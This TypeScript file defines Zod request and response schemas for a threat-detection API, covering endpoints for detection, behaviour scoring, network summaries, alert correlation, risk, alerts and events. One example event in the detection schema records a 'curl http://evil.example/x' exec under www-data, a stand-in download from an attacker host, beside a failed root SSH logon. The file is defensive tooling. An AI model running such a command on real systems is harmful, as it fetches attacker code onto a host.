// What is asked of /api/threat, and answered.
import { z } from 'zod';
import { EVENTS_MAX, eventInput, TIME_RULE } from './event-input.ts';
import {
  agentAnswer,
  alertAnswer,
  detectionAnswer,
  eventAnswer,
  incidentAnswer,
  STATES,
  severity,
} from './findings.ts';

const time = z.iso.datetime({ offset: true, error: TIME_RULE });
const LIMIT_RULE = 'write one whole number from 1 to 1000';
const name = z.string().min(1).max(512);
const limit = z.coerce.number(LIMIT_RULE).int(LIMIT_RULE).min(1, LIMIT_RULE).max(1_000, LIMIT_RULE).default(100);
const after = z.string().max(512).optional().describe('`next` of the page before');
const next = z.string().describe('Of the next page; empty on the last');
const id = z
  .string()
  .regex(/^[0-9a-hjkmnp-tv-zA-HJKMNP-TV-Z]{1,26}$/, 'an id, or what it begins with')
  .describe('Whole, or as much of its beginning as only one has');
const span = { since: time.optional(), until: time.optional() };

const ENTITY_KINDS = ['host', 'user', 'process', 'address'] as const;
const entity = z.strictObject({ kind: z.enum(ENTITY_KINDS), name });

export const threatHealthAnswer = z.object({
  status: z.enum(['up', 'degraded', 'down']),
  rules: z.object({ loaded: z.int(), disabled: z.int() }),
  alerts_open: z.int().nullable().describe('Null while the store does not answer'),
  agents: z.object({ enrolled: z.int(), connected: z.int() }),
  events_per_second: z.number(),
});

export const detectBody = z
  .strictObject({
    events: z.array(eventInput).min(1).max(EVENTS_MAX),
    host: z
      .string()
      .regex(/^[A-Za-z0-9._-]{1,64}$/, 'the name of a host')
      .default('api')
      .describe('The host they are said to come from'),
    store: z
      .boolean()
      .default(false)
      .describe(
        'Keep the detections and raise alerts of them; needs detection:report. The events are not kept: only what an agent signed is',
      ),
  })
  .meta({
    examples: [
      {
        host: 'web-1',
        events: [
          {
            observed_at: '2026-11-22T05:00:00Z',
            ...{ class: 'authentication', activity: 'logon', outcome: 'failure', service_name: 'sshd' },
            user: { name: 'root' },
            authentication: { method: 'password', source_address: '203.0.113.7', source_port: 50_123 },
          },
          {
            class: 'process',
            activity: 'exec',
            process: { executable: '/usr/bin/curl', args: ['curl', 'http://evil.example/x'], parent_name: 'bash' },
            user: { name: 'www-data', id: 33 },
          },
        ],
      },
    ],
  });
export const detectAnswer = z.object({
  detections: z.array(detectionAnswer),
  events: z.int(),
  rules_failed: z.int().describe('Rules that these events made throw'),
  stored: z.boolean(),
});

export const analyzeBody = z
  .strictObject({
    entity: z.strictObject({ kind: z.enum(['host', 'user']), name }),
    window: z
      .strictObject({ from: time, to: time })
      .optional()
      .describe('The last 24 hours where it is left out; whole hours'),
  })
  .meta({
    examples: [
      {
        entity: { kind: 'user', name: 'alice' },
        window: { from: '2026-11-21T00:00:00Z', to: '2026-11-22T00:00:00Z' },
      },
    ],
  });
const learning = z
  .object({ days: z.int(), of: z.int(), done: z.boolean() })
  .describe('Days the entity is known, of those the models need');
const modelAnswer = z
  .object({
    learning,
    hours: z.int().describe('Of the window, in which the entity did anything'),
    at: time.optional().describe('The most unusual of them'),
    features: z
      .array(
        z.object({
          feature: z.string(),
          unit: z.string(),
          observed: z.number(),
          usual: z.number().describe('For the entity at that hour of the day: the median'),
          usual_low: z.number().describe('95 % of such hours have more'),
          usual_high: z.number(),
          peers: z.int().describe('Entities like it that were asked; 0 where there are too few'),
          peers_low: z.number().describe("Of the peers' medians, the middle nine tenths"),
          peers_high: z.number(),
        }),
      )
      .describe('Of that hour'),
  })
  .describe('What the models of behaviour say; null where they know no such entity, or are off');
export const analyzeAnswer = z.object({
  entity,
  window: z.object({ from: time, to: time }),
  baseline: z.object({
    from: time,
    to: time,
    hours: z.int().describe('Hours of the baseline from the first event on'),
    measures: z.array(
      z.object({
        measure: z.string(),
        median: z.number().describe('Of an hour'),
        p95: z.number(),
        observed_max: z.number().describe('Of an hour of the window'),
        observed_total: z.number(),
        score: z.number().min(0).max(1),
      }),
    ),
  }),
  model: modelAnswer.nullable(),
  anomaly_score: z
    .number()
    .min(0)
    .max(1)
    .describe('By the models: how likely it is that so many ordinary hours have none like the most unusual one'),
  confidence: z.number().min(0).max(1).describe('By how much there is to compare with, and how much of it was seen'),
  reasons: z.array(z.string()),
  method: z.string().describe('By what the score was made: the models, or the series while they are learning'),
});

export const networkBody = z
  .strictObject({
    host: name.optional(),
    address: z
      .union([z.ipv4(), z.ipv6(), z.cidrv4(), z.cidrv6()])
      .optional()
      .describe('Of either end; a network in CIDR'),
    window: z
      .strictObject({ from: time, to: time })
      .optional()
      .describe('The last hour where it is left out; at most 7 days'),
  })
  .meta({
    examples: [{ address: '203.0.113.0/24', window: { from: '2026-11-22T04:00:00Z', to: '2026-11-22T05:00:00Z' } }],
  });
const counted = z.array(z.object({ name: z.string(), connections: z.int(), bytes: z.number() }));
export const networkAnswer = z.object({
  window: z.object({ from: time, to: time }),
  connections: z.int(),
  bytes: z.number(),
  hosts: z.int(),
  destinations: counted.describe('Most connections first'),
  sources: counted,
  ports: counted,
  programs: counted,
  listening: z.array(z.object({ host: z.string(), address: z.string(), port: z.int(), program: z.string() })),
  questions: z.array(z.object({ name: z.string(), count: z.int() })).describe('Names that were looked up'),
  alerts: z.array(alertAnswer).describe('About hosts and addresses of the answer, of the network'),
  complete: z.boolean().describe('Whether all events of the window were looked at'),
  looked_at: z.int().describe('Events'),
  looked_back_to: time,
});

export const correlateBody = z
  .strictObject({
    alerts: z.array(id).min(1).max(100).optional(),
    entity: entity.optional(),
    ...span,
    severity: severity.optional().describe('And above'),
  })
  .refine(({ alerts, entity }) => !(alerts && entity), {
    message: 'name alerts or an entity, not both',
    path: ['alerts'],
  })
  .meta({ examples: [{ since: '2026-11-21T00:00:00Z', until: '2026-11-22T00:00:00Z', severity: 'medium' }] });
export const correlateAnswer = z.object({
  alerts: z.int().describe('Looked at'),
  incidents: z.array(incidentAnswer).describe('What they would be told as, the most severe first'),
  entities: z
    .array(z.object({ kind: z.string(), name: z.string(), alerts: z.array(z.string()) }))
    .describe('What more than one alert is about'),
  tactics: z.array(z.string()).describe("Of all of them, in ATT&CK's order"),
  complete: z.boolean(),
});

export const riskParams = z.strictObject({ kind: z.enum(ENTITY_KINDS), id: name });
export const riskAnswer = z.object({
  entity,
  risk: z.number().min(0).max(100),
  half_life_hours: z.number(),
  reasons: z.array(
    z.object({ alert_id: z.string(), rule_id: z.string(), title: z.string(), contribution: z.number(), at: time }),
  ),
  history: z.array(z.object({ at: time, risk: z.number() })).describe('Of the last 7 days, oldest first'),
  first_seen_at: time.optional(),
  last_seen_at: time.optional(),
  behaviour: z
    .object({
      anomaly_score: z.number().min(0).max(1),
      confidence: z.number().min(0).max(1),
      learning,
      reasons: z.array(z.string()),
    })
    .nullable()
    .describe('Its present hours by the models of behaviour; null where they know no such entity'),
});

export const alertsQuery = z.strictObject({
  limit,
  after,
  severity: severity.optional().describe('And above'),
  agent: name.optional(),
  user: name.optional(),
  technique: z
    .string()
    .regex(/^[Tt]\d{4}(\.\d{3})?$/, 'an ATT&CK technique, such as T1110')
    .optional(),
  state: z.enum(STATES).optional(),
  sort: z.enum(['newest', 'triage']).default('newest').describe('triage: the likeliest to be real first'),
  ...span,
});
export const alertsAnswer = z.object({ alerts: z.array(alertAnswer), next });
export const idParams = z.strictObject({ id });
export const oneAlertAnswer = z.object({ alert: alertAnswer, events: z.array(eventAnswer) });

export const incidentsQuery = z.strictObject({
  limit,
  after,
  state: z.enum(['open', 'closed']).optional(),
  severity: severity.optional().describe('And above'),
});
export const incidentsAnswer = z.object({ incidents: z.array(incidentAnswer), next });
export const oneIncidentAnswer = z.object({ incident: incidentAnswer });

export const agentsAnswer = z.object({ agents: z.array(agentAnswer) });
export const agentParams = z.strictObject({ agent: z.string().min(1).max(128).describe('Name or id') });
export const oneAgentAnswer = z.object({
  agent: agentAnswer,
  losses: z.array(z.object({ sensor: z.string(), reason: z.string(), count: z.number() })),
  observed_hour: z.number(),
  observed_day: z.number(),
});

export const eventsBody = z
  .strictObject({
    filters: z
      .array(z.strictObject({ field: z.string().min(1).max(128), value: z.string().max(4_096) }))
      .max(32)
      .default([])
      .describe('All must hold; fields by ECS name, as "threatguard events search" takes them'),
    ...span,
    limit: z.int().min(1).max(1_000).default(100),
    after,
  })
  .meta({
    examples: [
      {
        filters: [
          { field: 'user.name', value: 'root' },
          { field: 'event.outcome', value: 'failure' },
        ],
        since: '2026-11-22T04:00:00Z',
        limit: 50,
      },
    ],
  });
export const eventsAnswer = z.object({
  events: z.array(eventAnswer),
  next,
  searched_back_to: time.optional().describe('Where the answer ended early: all from then on were looked at'),
});

export const rulesAnswer = z.object({
  rules: z.array(
    z.object({
      id: z.string(),
      title: z.string(),
      kind: z.enum(['event', 'correlation']),
      severity,
      techniques: z.array(z.string()),
      tactics: z.array(z.string()),
    }),
  ),
  problems: z.array(z.string()).describe('Rules that are off, and why'),
});
